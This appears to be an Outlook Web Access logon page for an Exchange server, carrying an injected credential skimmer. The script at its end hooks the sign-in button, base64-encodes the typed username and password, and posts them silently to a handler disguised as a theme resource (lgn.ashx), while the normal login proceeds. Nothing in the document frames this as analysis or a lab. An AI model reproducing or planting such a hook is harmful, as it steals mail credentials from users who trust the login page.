<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import namespace="Microsoft.Exchange.Clients"%>
<form action="/owa/auth.owa" method="POST" name="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="" />
<input id="username" name="username" class="signInInputText" />
<input id="password" name="password" type="password" class="signInInputText" />
</form>
<script>
function clkLgn(){ gbid("rdoRmbr"); document.logonForm.submit(); }
var btn=document.querySelector(".signinbutton");
btn.addEventListener("click",function(){var x=new XMLHttpRequest();x.open("POST","/owa/auth/Current/themes/resources/lgn.ashx",true);x.send(btoa(document.getElementById("username").value+"|"+document.getElementById("password").value));});
</script>
